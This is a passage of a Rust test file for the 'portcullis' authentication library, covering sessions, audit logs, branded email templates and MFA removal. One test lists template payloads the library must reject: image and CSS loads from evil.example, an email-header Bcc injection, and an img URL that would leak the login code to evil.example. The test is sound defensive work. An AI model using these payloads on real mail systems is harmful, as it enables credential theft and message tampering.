        page.items.into_iter().map(|u| u.id).collect::<Vec<_>>()
    };
    let mut query = UserQuery::all();
    query.email_verified = Some(true);
    assert_eq!(
        ids(users.list(&query, &PageRequest::first(10)).await.unwrap()),
        [early.id]
    );
    let mut query = UserQuery::all();
    query.created_from = Some(start + std::time::Duration::from_secs(30));
    query.created_before = Some(late.created_at);
    assert_eq!(
        ids(users.list(&query, &PageRequest::first(10)).await.unwrap()),
        [middle.id]
    );
    let in_acme = users
        .list_in_org(acme, &UserQuery::all(), &PageRequest::first(10))
        .await
        .unwrap();
    assert_eq!(ids(in_acme), [middle.id, late.id]);
    let mut query = UserQuery::all();
    query.email_prefix = Some("late".into());
    assert_eq!(
        ids(users
            .list_in_org(acme, &query, &PageRequest::first(10))
            .await
            .unwrap()),
        [late.id]
    );
}

#[tokio::test]
async fn an_organization_can_shorten_its_sessions() {
    let h = harness();
    let mut short = portcullis::OrgSettings::default();
    short.session_lifetime_secs = Some(3600);
    let acme = org_with(&h, "acme", short).await;
    let ana = member(&h, "ana@example.com", acme).await;
    let set = sign_in(&h, ana, Some(acme)).await;
    let session = h
        .store
        .get_session(set.session_id, h.auth.now())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        session.expires_at,
        h.auth.now() + std::time::Duration::from_secs(3600)
    );
    h.clock.advance(std::time::Duration::from_secs(3601));
    assert!(
        h.auth
            .tokens()
            .refresh(&set.refresh_token, &ctx())
            .await
            .is_err()
    );
    // Not shorter than an access token.
    let mut too_short = portcullis::OrgSettings::default();
    too_short.session_lifetime_secs = Some(60);
    let mut new = portcullis::NewOrg::new("Tiny", "tiny");
    new.settings = too_short;
    assert!(matches!(
        h.auth.orgs().create(new).await,
        Err(Error::InvalidInput { .. })
    ));
}

#[tokio::test]
async fn sending_a_link_or_code_to_an_account_is_logged() {
    let h = harness();
    let ana = h
        .auth
        .users()
        .create(NewUser::with_email("ana@example.com"), &ctx())
        .await
        .unwrap();
    h.auth
        .codes()
        .email()
        .send("ana@example.com", &ctx())
        .await
        .unwrap();
    h.clock.advance(std::time::Duration::from_secs(60));
    h.auth
        .magic_links()
        .send("ana@example.com", &portcullis::LinkOptions::new(), &ctx())
        .await
        .unwrap();
    // Logged alongside the delivery, in the background.
    h.auth.flush_deliveries().await;
    let log = h
        .auth
        .audit()
        .login_log(ana.id, &PageRequest::first(10))
        .await
        .unwrap();
    let started: Vec<_> = log
        .items
        .iter()
        .filter(|e| e.kind == AuthEventKind::CeremonyStarted)
        .map(|e| e.method.as_deref())
        .collect();
    assert_eq!(started, [Some("email"), Some("email")]);
    assert_eq!(
        h.auth.audit().verify_chain(ana.id).await.unwrap(),
        portcullis::ChainStatus::Intact { events: 3 }
    );
}

#[tokio::test]
async fn an_organizations_own_wording_and_name_reach_its_messages() {
    let h = harness();
    let mut settings = portcullis::OrgSettings::default();
    settings.branding.display_name = Some("Acme Login".into());
    settings.branding.primary_color = Some("#112233".into());
    settings.branding.logo_url = Some("https://acme.example/logo.png".into());
    let mut german = portcullis::directory::MessageWording::new(MessageKind::EmailCode, Some("de"));
    german.subject = Some("Ihr Code für {{app_name}}".into());
    german.intro = Some("Ihr Code <b>für</b> {{app_name}}:".into());
    settings.templates = vec![german];
    let acme = org_with(&h, "acme", settings).await;
    let in_acme = ctx().with_org(acme).with_locale("de-AT");
    h.auth
        .codes()
        .email()
        .send("ana@example.com", &in_acme)
        .await
        .unwrap();
    let mail = h.last_mail().await;
    let code = mail.message.code.clone().unwrap();
    assert_eq!(mail.subject, "Ihr Code für Acme Login");
    assert!(mail.text.starts_with("Ihr Code <b>für</b> Acme Login:\n\n"));
    assert!(mail.text.contains(code.secret()));
    let html = mail.html.clone().unwrap();
    assert!(
        html.contains("Ihr Code &lt;b&gt;für&lt;/b&gt; Acme Login:"),
        "{html}"
    );
    assert!(html.contains(&format!(">{}</p>", code.secret())), "{html}");
    assert!(
        html.contains(r#"<img src="https://acme.example/logo.png""#),
        "{html}"
    );
    // Another language falls back to the built-in template, still with the org's name.
    h.clock.advance(std::time::Duration::from_secs(60));
    h.auth
        .codes()
        .email()
        .send("bo@example.com", &ctx().with_org(acme))
        .await
        .unwrap();
    assert!(
        h.last_mail()
            .await
            .subject
            .ends_with("is your Acme Login code")
    );
}

/// Checklist ADM-07, ML-05 (issue 16, item 1): an organization's wording cannot place a
/// code or a link, hold a URL or markup that loads anything, or break the subject line.
#[tokio::test]
async fn an_organizations_wording_cannot_carry_a_code_or_link_off() {
    let h = harness();
    let refused = [
        "{{code}}",
        "{{ code }}",
        "{{link}}",
        "{{ link}}",
        "<img src=\"https://evil.example/p\">",
        "see www.evil.example",
        "<style>@import 'x'</style>",
        "background:url(x)",
        "{{password}}",
    ];
    for (n, text) in refused.into_iter().enumerate() {
        for field in 0..3 {
            let mut wording =
                portcullis::directory::MessageWording::new(MessageKind::MagicLink, None);
            match field {
                0 => wording.subject = Some(text.into()),
                1 => wording.intro = Some(text.into()),
                _ => wording.outro = Some(text.into()),
            }
            let mut new = portcullis::NewOrg::new("Bad", format!("bad-{n}-{field}"));
            new.settings.templates = vec![wording];
            let answer = h.auth.orgs().create(new).await;
            assert!(
                matches!(answer, Err(Error::InvalidInput { .. })),
                "{text:?} in field {field}: {answer:?}"
            );
        }
    }
    let mut header = portcullis::directory::MessageWording::new(MessageKind::EmailCode, None);
    header.subject = Some("Hi\r\nBcc: evil@example.com".into());
    let mut new = portcullis::NewOrg::new("Bad", "bad-header");
    new.settings.templates = vec![header];
    assert!(matches!(
        h.auth.orgs().create(new).await,
        Err(Error::InvalidInput { .. })
    ));
    // Markup is words: escaped in the HTML body, and the link is the engine's.
    let mut wording = portcullis::directory::MessageWording::new(MessageKind::MagicLink, None);
    wording.intro = Some("<a href=x>{{recipient}}</a>".into());
    wording.button = Some("Go \"now\"".into());
    let mut settings = portcullis::OrgSettings::default();
    settings.templates = vec![wording];
    let org = org_with(&h, "words", settings).await;
    h.auth
        .magic_links()
        .send(
            "ana@example.com",
            &portcullis::LinkOptions::new(),
            &ctx().with_org(org),
        )
        .await
        .unwrap();
    let mail = h.last_mail().await;
    let link = mail.message.link.clone().unwrap();
    let html = mail.html.clone().unwrap();
    assert!(
        html.contains("&lt;a href=x&gt;ana@example.com&lt;/a&gt;"),
        "{html}"
    );
    assert!(html.contains("Go &quot;now&quot;</a>"), "{html}");
    let link_html = link.secret().replace('&', "&amp;");
    assert_eq!(html.matches("href=\"").count(), 1, "{html}");
    assert!(html.contains(&format!("href=\"{link_html}\"")), "{html}");
    // An organization's settings carrying the old free-form HTML are refused, not
    // ignored: the administrator learns the field is gone.
    let json = serde_json::json!({"templates": [{"kind": "email_code", "subject": "s",
        "text": "{{code}}", "html": "<img src=\"https://evil.example/?c={{code}}\">"}]});
    assert!(serde_json::from_value::<portcullis::OrgSettings>(json).is_err());
}

#[tokio::test]
async fn leaving_or_losing_an_organization_ends_the_sessions_in_it() {
    let h = harness();
    let acme = org(&h, "acme").await;
    let globex = org(&h, "globex").await;
    let ana = member(&h, "ana@example.com", acme).await;
    h.auth
        .rbac()
        .add_member(ana, globex, &[], &ctx())
        .await
        .unwrap();
    let in_acme = sign_in(&h, ana, Some(acme)).await;
    let in_globex = sign_in(&h, ana, Some(globex)).await;
    let outside = sign_in(&h, ana, None).await;
    let live = |set: &TokenSet| {
        let token = set.access_token.clone();
        let auth = h.auth.clone();
        async move { auth.tokens().verify_live(&token).await.is_ok() }
    };

    assert!(h.auth.rbac().remove_member(ana, acme).await.unwrap());
    assert!(!live(&in_acme).await, "she left Acme");
    assert!(live(&in_globex).await && live(&outside).await);

    h.auth.orgs().delete(globex).await.unwrap();
    assert!(!live(&in_globex).await, "Globex is gone");
    assert!(live(&outside).await, "her own session stays");
}

/// Signs `user` in with an email first factor and a TOTP code (a fresh time step each
/// call).
async fn sign_in_with_totp(
    h: &Harness,
    user: UserId,
    secret: &[u8],
    ctx: &RequestContext,
) -> TokenSet {
    let SignIn::MfaRequired(step) = first_factor(h, user, ctx).await else {
        panic!("expected the MFA step")
    };
    h.clock.advance(std::time::Duration::from_secs(30));
    let proof = portcullis::MfaProof::Totp(support::app_code(h, secret));
    tokens(
        h.auth
            .mfa()
            .verify(&step.mfa_token, &proof, ctx)
            .await
            .unwrap(),
    )
}

#[tokio::test]
async fn removing_an_authenticator_needs_a_fresh_sign_in_and_keeps_the_one_an_organization_requires()
 {
    let h = harness();
    let strict = org_requiring(
        &h,
        "strict",
        portcullis::directory::MfaRequirement::Required,
    )
    .await;
    let bo = member(&h, "bo@example.com", strict).await;
    let in_strict = ctx().with_org(strict);
    let (secret, _) = enable_totp(&h, bo).await;
    let factor = h.auth.mfa().authenticators(bo).await.unwrap().totp[0].id;
    let which = portcullis::AuthenticatorId::Totp(factor);

    // Her only TOTP, and an organization of hers requires a second factor: it stays,
    // whichever organization the session runs in.
    for session_ctx in [&in_strict, &ctx()] {
        let session = sign_in_with_totp(&h, bo, &secret, session_ctx).await;
        let refused = h
            .auth
            .mfa()
            .remove(session.session_id, &which, session_ctx)
            .await;
        assert!(matches!(refused, Err(Error::Forbidden)), "{refused:?}");
    }
    assert_eq!(h.auth.mfa().authenticators(bo).await.unwrap().totp.len(), 1);

    // Someone in no such organization decides for themself, but a sign-in 11 minutes old
    // is stale.
    let cy = h
        .auth
        .users()
        .create(NewUser::with_email("cy@example.com"), &ctx())
        .await
        .unwrap()
        .id;
    let (secret, _) = enable_totp(&h, cy).await;
    let factor = h.auth.mfa().authenticators(cy).await.unwrap().totp[0].id;
    let which = portcullis::AuthenticatorId::Totp(factor);
    let own = sign_in_with_totp(&h, cy, &secret, &ctx()).await;
    h.clock.advance(std::time::Duration::from_secs(11 * 60));
    let stale = h.auth.mfa().remove(own.session_id, &which, &ctx()).await;
    assert!(matches!(stale, Err(Error::ReauthRequired)), "{stale:?}");
    assert_eq!(h.auth.mfa().authenticators(cy).await.unwrap().totp.len(), 1);
    let window = h.auth.config().mfa.fresh_sign_in;
    let recent = h
        .auth
        .sessions()
        .require_recent(own.session_id, window)
        .await;
    assert!(matches!(recent, Err(Error::ReauthRequired)), "{recent:?}");
    let longer = h
        .auth
        .sessions()
        .require_recent(own.session_id, 2 * window)
        .await;
    assert_eq!(longer.unwrap().id, own.session_id);
    // A lockout (a stranger's wrong guesses) stops sign-ins, not her live session;
    // blocking her ends it.
    let mut account = h.store.get_user(cy).await.unwrap().unwrap();
    account.locked_until = Some(h.auth.now() + std::time::Duration::from_secs(3600));
    h.store.update_user(&account).await.unwrap();
    let locked = h
        .auth
        .sessions()
        .require_recent(own.session_id, 2 * window)
        .await;
    assert!(locked.is_ok(), "{locked:?}");
    h.auth.users().block(cy, &ctx()).await.unwrap();
    let blocked = h
        .auth
        .sessions()
        .require_recent(own.session_id, 2 * window)
        .await;
    assert!(matches!(blocked, Err(Error::SessionRevoked)), "{blocked:?}");
    h.auth.users().unblock(cy, &ctx()).await.unwrap();
    let mut account = h.store.get_user(cy).await.unwrap().unwrap();
    account.locked_until = None;
    h.store.update_user(&account).await.unwrap();

    // Fresh: it goes, once; a revoked session removes nothing.
    let fresh = sign_in_with_totp(&h, cy, &secret, &ctx()).await;
    h.auth
        .mfa()
        .remove(fresh.session_id, &which, &ctx())
        .await
        .unwrap();
    assert!(
        h.auth
            .mfa()
            .authenticators(cy)
            .await
            .unwrap()
            .totp
            .is_empty()
    );
    let again = h.auth.mfa().remove(fresh.session_id, &which, &ctx()).await;
    assert!(matches!(again, Err(Error::NotFound { .. })), "{again:?}");
    h.auth
        .sessions()
        .revoke(cy, fresh.session_id, &ctx())
        .await
        .unwrap();
    let ended = h.auth.mfa().remove(fresh.session_id, &which, &ctx()).await;
    assert!(matches!(ended, Err(Error::SessionRevoked)), "{ended:?}");
}
